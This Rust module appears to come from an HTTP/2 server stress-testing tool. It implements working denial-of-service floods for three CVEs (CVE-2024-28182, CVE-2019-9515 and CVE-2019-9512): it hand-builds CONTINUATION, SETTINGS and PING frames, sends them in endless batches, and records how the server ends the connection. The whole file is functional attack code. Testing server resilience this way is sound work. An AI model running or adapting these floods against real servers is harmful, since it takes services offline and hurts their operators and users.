//! Floods of HTTP/2 frames that no well-kept client sends.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _, split};
use tokio::time::sleep;

use super::tally::{Outcome, Tally};

/// Frames in one write.
const FRAMES: usize = 1_000;

/// Kinds of frames (RFC 9113 §6).
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

/// The preface of a client, with its settings (RFC 9113 §3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// `:method`, `:path`, `:scheme` and `:authority` of a request, encoded with HPACK.
const REQUEST: &[u8] = b"\x82\x84\x87\x41\x01h";

/// A field of a header block.
const FIELD: &[u8] = b"\x40\x01a\x01b";

/// What floods a connection.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum FrameFlood {
    /// A header block without an end (CVE-2024-28182).
    Continuation,
    /// Settings to acknowledge (CVE-2019-9515).
    Settings,
    /// Pings to answer (CVE-2019-9512).
    Ping,
}

/// Sends frames again and again, and reads what the server sends, until the server ends the
/// connection. Returns how it has ended.
pub(super) async fn send(
    flood: FrameFlood,
    stream: impl AsyncRead + AsyncWrite,
    tally: &Tally,
    pause: Duration,
) -> Outcome {
    let (reading, mut writing) = split(stream);
    let write = async {
        writing
            .write_all(&[PREFACE, &flood.start()].concat())
            .await?;
        let frames = flood.frame().repeat(FRAMES);
        loop {
            writing.write_all(&frames).await?;
            writing.flush().await?;
            tally.act(FRAMES as u64);
            sleep(pause).await;
        }
    };
    let mut read = Box::pin(end_of(reading));
    tokio::select! {
        ended = &mut read => ended,
        // The last frames of the server can be read even after writing has failed.
        Err::<(), io::Error>(_) = write => read.await,
    }
}

impl FrameFlood {
    /// Returns what the client sends once.
    fn start(self) -> Vec<u8> {
        match self {
            Self::Continuation => frame(HEADERS, 1, REQUEST),
            Self::Settings | Self::Ping => Vec::new(),
        }
    }

    /// Returns the frame of the flood.
    fn frame(self) -> Vec<u8> {
        match self {
            Self::Continuation => frame(CONTINUATION, 1, FIELD),
            // A window of 64 KiB.
            Self::Settings => frame(SETTINGS, 0, &[0, 4, 0, 1, 0, 0]),
            Self::Ping => frame(PING, 0, &[0; 8]),
        }
    }
}

/// Returns a frame without flags. The payload is shorter than 256 bytes.
fn frame(kind: u8, stream: u8, payload: &[u8]) -> Vec<u8> {
    let [.., length] = payload.len().to_be_bytes();
    let head = [0, 0, length, kind, 0, 0, 0, 0, stream];
    [&head, payload].concat()
}

/// Reads frames until the connection ends, and returns how: with the error code of the last GOAWAY
/// (RFC 9113 §6.8), if there was one.
async fn end_of(mut reading: impl AsyncRead + Unpin) -> Outcome {
    let mut ended = Outcome::Closed;
    loop {
        let mut head = [0; 9];
        if reading.read_exact(&mut head).await.is_err() {
            return ended;
        }
        let [a, b, c, kind, ..] = head;
        let length = u32::from_be_bytes([0, a, b, c]);
        let mut payload = Vec::new();
        let frame = (&mut reading).take(length.into());
        if { frame }.read_to_end(&mut payload).await.is_err() {
            return ended;
        }
        if let (GOAWAY, [_, _, _, _, a, b, c, d, ..]) = (kind, payload.as_slice()) {
            ended = Outcome::GoAway(u32::from_be_bytes([*a, *b, *c, *d]));
        } else if ended == Outcome::Closed {
            ended = Outcome::Dropped;
        }
    }
}
